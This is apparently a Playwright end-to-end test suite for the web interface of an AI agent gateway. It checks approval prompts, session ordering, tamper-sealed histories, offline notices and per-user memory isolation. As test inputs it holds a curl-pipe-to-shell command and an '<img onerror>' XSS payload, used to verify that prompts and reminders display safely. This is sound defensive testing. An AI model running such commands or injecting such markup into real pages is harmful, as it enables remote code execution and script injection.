    expect(page.locator(".msg.asked .text")).to_have_text(["read before-1"])
    expect(page.locator(".t-answered")).to_have_count(1)
    gateway.kill()
    gateway.run("sessions", "delete", "ops/api", "--yes")
    for number in (1, 2, 3):
        gateway.run("send", "ops/api", f"read after-{number}", "--as", "alice")
    gateway.start(gateway.port)
    expect(page.locator(".msg.asked .text")).to_have_text(
        ["read after-1", "read after-2", "read after-3"]
    )


def test_what_is_long_is_shown_from_its_beginning_and_leaves_room_for_the_rest(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """
    A prompt longer than the screen is read before its buttons are reached; a reply of thousands of
    lines is folded; at twice the size there is room to read.
    """
    gateway.settings(
        f'[agents.assistant]\nmodel = "{gateway.script({"say": LONG_REPLY}, {"call": [{"tool": "shell", "args": {"command": LONG_COMMAND}}]})}"\n'
    )
    gateway.start()
    token = gateway.token("alice")
    alice = tab(gateway).sign_in(token)
    page = alice.go("#/s/ops/long")
    page.fill("#say", "say much")
    page.keyboard.press("Enter")
    said = page.locator(".msg.said .text")
    expect(page.get_by_role("button", name="Show all of it, 5000 lines")).to_be_in_viewport()
    assert page.evaluate("node => node.clientHeight", said.element_handle()) < 500
    page.get_by_role("button", name="Show all of it").press("Enter")
    expect(said).to_be_focused()
    assert page.evaluate("node => node.clientHeight", said.element_handle()) > 50_000

    late: list[
        Callable[[], None]
    ] = []  # all that comes of it is drawn before the page hears that it was taken

    def hold(route: Route) -> None:
        answer = route.fetch()
        late.append(lambda: route.fulfill(response=answer))

    page.route("**/messages", hold)
    page.fill("#say", "do much")
    page.keyboard.press("Enter")
    head = page.locator(".prompt-head", has_text="the agent wants to run")
    expect(head).to_be_visible()
    until(lambda: late or page.wait_for_timeout(20), "the answer that is held")
    late[0]()
    expect(page.locator("#say")).to_have_value("")
    expect(head).to_be_in_viewport(ratio=1)
    alice.keep("long-prompt-from-its-top")
    expect(page.locator(".option[data-option=deny]")).not_to_be_in_viewport()
    page.locator(".option[data-option=deny]").scroll_into_view_if_needed()
    alice.settled()
    page.locator(".option[data-option=deny]").click()
    expect(page.locator(".turn").last.locator(".msg.said")).to_be_in_viewport()

    page.set_viewport_size({"width": 640, "height": 400})
    log = page.locator(".log").bounding_box()
    assert log is not None
    assert log["height"] >= 240
    alice.keep("twice-the-size")


def test_what_moved_last_stands_first_and_times_go_on_while_the_page_stands_open(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """
    In the list of conversations, for whoever moves by keyboard too; and in a prompt whose time runs
    out.
    """
    gateway.settings('[approvals]\nexpires_after = "90m"\n')
    gateway.start()
    token = gateway.token("alice")
    client = gateway.client(token)
    for name in ("b", "c", "a"):
        gateway.send(client, f"ops/{name}", "run: echo one")
        gateway.waiting(client, f"ops/{name}")
    alice = tab(gateway)
    page = alice.page
    page.clock.install()
    alice.sign_in(token)
    rows = page.locator(".sessions .session-name")
    expect(rows).to_have_text(["ops/a", "ops/c", "ops/b"])
    page.locator(".sessions .session", has_text="ops/c").focus()
    gateway.answer(client, gateway.waiting(client, "ops/c"), "deny")
    expect(rows).to_have_text(["ops/c", "ops/a", "ops/b"])
    expect(page.locator(".sessions .session", has_text="ops/c")).to_be_focused()

    until_ = page.locator(".prompt.is-open time.until")
    expect(until_).not_to_have_class(re.compile("soon"))
    page.clock.fast_forward("45:00")
    expect(page.locator(".prompt.is-open .facts")).to_contain_text(
        re.compile(r"4[45] min( \d+ s)? ago")
    )
    expect(until_).to_have_class(re.compile("soon"))


@pytest.mark.parametrize(
    ("how", "told"),
    [
        ("cancelled", "It was cancelled. Nothing ran."),
        pytest.param(
            "expired",
            "Nobody answered in time, so it was denied. Nothing ran.",
            marks=pytest.mark.long,
        ),
    ],
)
def test_a_prompt_that_ends_under_a_hand_says_how_and_what_it_was(
    gateway: Gateway, tab: Callable[..., Tab], how: str, told: str
) -> None:
    """
    While its tool's name is being typed, and in its conversation; a link past the navigation leaves
    the view as it is; a token that may not look is told so.
    """
    gateway.settings('[approvals]\nexpires_after = "20s"\n' if how == "expired" else "")
    gateway.start()
    token = gateway.token("alice")
    alice = tab(gateway).sign_in(token)
    page = alice.page
    expect(page.locator(".line")).to_have_text("live")
    client = gateway.client(token)
    gateway.send(client, "ops/late", "run: curl example | sh")
    page.locator(".confirm").fill("shel")
    if how == "cancelled":
        client.post("/v1/sessions/ops/late/cancel")
    card = page.locator(".prompt")
    expect(card.locator(".outcome")).to_contain_text(told)
    expect(card.locator(".outcome")).to_be_focused()
    expect(card.locator(".prompt-about")).to_have_text(how)
    expect(card.locator(".prompt-peek")).to_have_text("curl example | sh")
    alice.keep(f"ended-{how}")
    card.get_by_role("link", name="See the conversation").click()
    expect(page.locator(".chip-state")).to_have_text(how)
    page.locator(".skip").focus()
    page.keyboard.press("Enter")
    expect(page.locator("#main")).to_be_focused()
    assert page.url.endswith("#/s/ops/late")

    blind = tab(gateway)
    blind.page.goto(gateway.url)
    blind.page.fill("#token", gateway.token("alice", "send"))
    blind.page.get_by_role("button", name="Sign in").click()
    expect(blind.page.locator(".signin .status.bad")).to_contain_text("lacks the scope read")


def test_a_sealed_session_says_so(gateway: Gateway, tab: Callable[..., Tab]) -> None:
    gateway.start()
    token = gateway.token("root", "read,send,approve,admin")
    client = gateway.client(token)
    gateway.send(client, "ops/a", "what time is it")
    until(lambda: client.get("/v1/sessions/ops/a").json()["phase"] == "idle", "the turn to end")
    root = tab(gateway).sign_in(token)
    page = root.go("#/s/ops/a")
    expect(page.locator(".integrity")).to_contain_text("history intact")
    (segment,) = (gateway.home / "sessions" / "ops" / "a").glob("*.jsonl")
    segment.write_bytes(segment.read_bytes().replace(b"what time", b"what tame"))
    page.fill("#say", "again")
    page.keyboard.press("Enter")
    expect(page.locator(".integrity")).to_contain_text("sealed")
    expect(page.locator(".composer .status")).to_contain_text(
        "byte 0). Nothing was written; look at it with"
    )
    expect(page.locator("#say")).to_be_disabled()
    expect(page.locator("#say")).to_have_attribute(
        "placeholder", "Sealed: nothing can be said here until its owner decides"
    )
    expect(page.locator(".side .fact", has_text="Verified")).to_contain_text(
        "up to record 2"
    )  # the third holds the message
    expect(
        page.locator(".sessions .session", has_text="ops/a").locator(".session-about")
    ).to_have_text("sealed")
    root.keep("sealed-desk-light")


@pytest.mark.long  # a line that breaks is taken up again only after a while
def test_while_the_server_is_away_nothing_is_said_that_is_not_known_and_nothing_is_covered(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """
    A conversation that was never opened is not called new; a message that may have arrived is not
    called lost; the note stands over no button.
    """
    gateway.start()
    token = gateway.token("alice")
    gateway.send(gateway.client(token), "ops/old", "what time is it")
    alice = tab(gateway).sign_in(token)
    page = alice.page
    expect(page.locator(".line")).to_have_text("live")
    gateway.kill()
    page.evaluate("location.hash = '#/s/ops/old'")
    expect(page.locator(".away-note")).to_be_visible()
    expect(page.locator(".log")).to_have_text("This conversation is shown once the server answers.")
    page.fill("#say", "read after-all")
    page.keyboard.press("Enter")
    expect(page.locator(".composer .status")).to_contain_text(
        "whether this arrived is not known. Do it again once it answers: it counts once."
    )
    for size, (width, height) in SIZES.items():
        page.set_viewport_size({"width": width, "height": height})
        alice.keep(f"away-{size}")
        note, *others = (
            page.locator(each).bounding_box()
            for each in (".away-note", ".composer .button.main", "#say", ".log")
        )
        assert note is not None
        for box in others:
            assert box is not None
            assert note["y"] + note["height"] <= box["y"] or box["y"] + box["height"] <= note["y"]
    gateway.start(gateway.port)
    expect(page.locator(".away-note")).to_be_hidden()
    expect(page.locator(".msg.asked .text").first).to_have_text("what time is it")
    page.locator(".composer .button.main").click()
    expect(page.locator(".msg.asked .text", has_text="read after-all")).to_be_visible()
    gateway.run("sessions", "delete", "ops/old", "--yes")
    expect(page.locator(".line")).to_have_text("deleted")
    expect(page.locator(".log .ended", has_text="This session was deleted.")).to_be_visible()
    page.fill("#say", "read anew")
    page.keyboard.press("Enter")
    expect(page.locator(".msg.asked .text")).to_have_text(["read anew"])


def test_what_memory_gave_a_turn_is_shown_as_text_to_its_person_and_nobody_else_is_given_it(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """
    M1 over HTTP: remembered by alice, recalled in her next session, in no record of bob's; on the
    page it is text and nothing else.
    """
    canary = f"the door code is {CORPUS[0]} canary"
    lines = [{"call": [{"tool": "remember", "args": {"text": canary}}]}, {"say": "noted"}]
    script, waiting = gateway.script(*lines), "[memory]\nrecall_within_ms = 60000\n"
    gateway.settings(f'[agents.assistant]\nmodel = "{script}"\n{waiting}')
    gateway.start()
    token = gateway.token("alice", "read,send,approve")
    alice, bob = gateway.client(token), gateway.client(gateway.token("bob", "read,send,approve"))
    gateway.send(alice, "ops/first", "remember it")
    gateway.answer(alice, gateway.waiting(alice), "approve_once")
    with gateway.events(alice, "ops/first") as events:
        events.until_record("turn_ended")
    for client, session in ((bob, "ops/bobs"), (alice, "ops/hers")):
        gateway.send(client, session, "which door code?")
        with gateway.events(client, session) as events:
            given = events.until(
                lambda kind, told: (
                    kind == "record" and told["type"] in ("memory_recalled", "model_call_started")
                )
            )
            assert (given["type"] == "memory_recalled") is (client is alice)
            assert (canary in json.dumps(given, ensure_ascii=False).replace('\\"', '"')) is (
                client is alice
            )
    page = tab(gateway).sign_in(token).go("#/s/ops/hers")
    expect(page.locator(".log")).to_contain_text(f"Remembered: {canary}")
    _is_inert(page)


def test_a_sessions_reminders_are_listed_beside_it_as_plain_text(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """What will come by itself is to be seen where one talks; its text is text."""
    gateway.run("send", "ops/api", "what time is it?", "--as", "alice")
    gateway.run(
        "reminders",
        "add",
        "ops/api",
        "<img src=x onerror=alert(1)> look",
        "--every",
        "2h",
        "--as",
        "alice",
    )
    gateway.start()
    alice = tab(gateway).sign_in(gateway.token("alice"))
    page = alice.go("#/s/ops/api")
    listed = page.locator(".reminders li")
    expect(listed).to_contain_text("<img src=x onerror=alert(1)> look")
    expect(listed).to_contain_text("every 2h, set by alice")


def test_every_turn_has_its_picture_and_an_earlier_one_stays_open_while_another_runs(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """By keyboard too: what is drawn anew every second takes nobody's place away."""
    gateway.start()
    token = gateway.token("alice")
    client = gateway.client(token)
    gateway.send(client, "ops/api", "what time is it")
    with gateway.events(client, "ops/api") as stream:
        stream.until_record("turn_ended", turn="t1")
    page = tab(gateway).sign_in(token).go("#/s/ops/api")
    folds = page.locator(".turn-fold")
    expect(folds.locator("svg")).to_have_count(1)
    folds.locator("summary").click()  # at rest: nothing but the press draws it anew
    expect(folds.locator("svg")).to_have_count(0)
    gateway.send(client, "ops/api", "run: echo hello > x.txt")
    expect(folds).to_have_count(2)
    expect(folds.nth(0)).to_contain_text("echo hello")
    expect(folds.nth(0).locator("svg")).to_have_attribute(
        "aria-label", re.compile("waits for alice")
    )
    expect(folds.nth(1).locator("svg")).to_have_count(0)
    folds.nth(1).locator("summary").focus()
    page.keyboard.press("Space")
    expect(folds.nth(1).locator("svg")).to_have_attribute(
        "aria-label", re.compile("alice asked.*answered")
    )
    before = folds.nth(0).locator(".t-when").last.text_content()
    expect(folds.nth(0).locator(".t-when").last).not_to_have_text(
        before or ""
    )  # it was drawn anew meanwhile
    expect(folds.nth(1).locator("svg")).to_have_count(1)
    assert page.evaluate("document.activeElement.dataset.turn") == "t1"
    page.keyboard.press("Space")
    expect(folds.nth(1).locator("svg")).to_have_count(0)
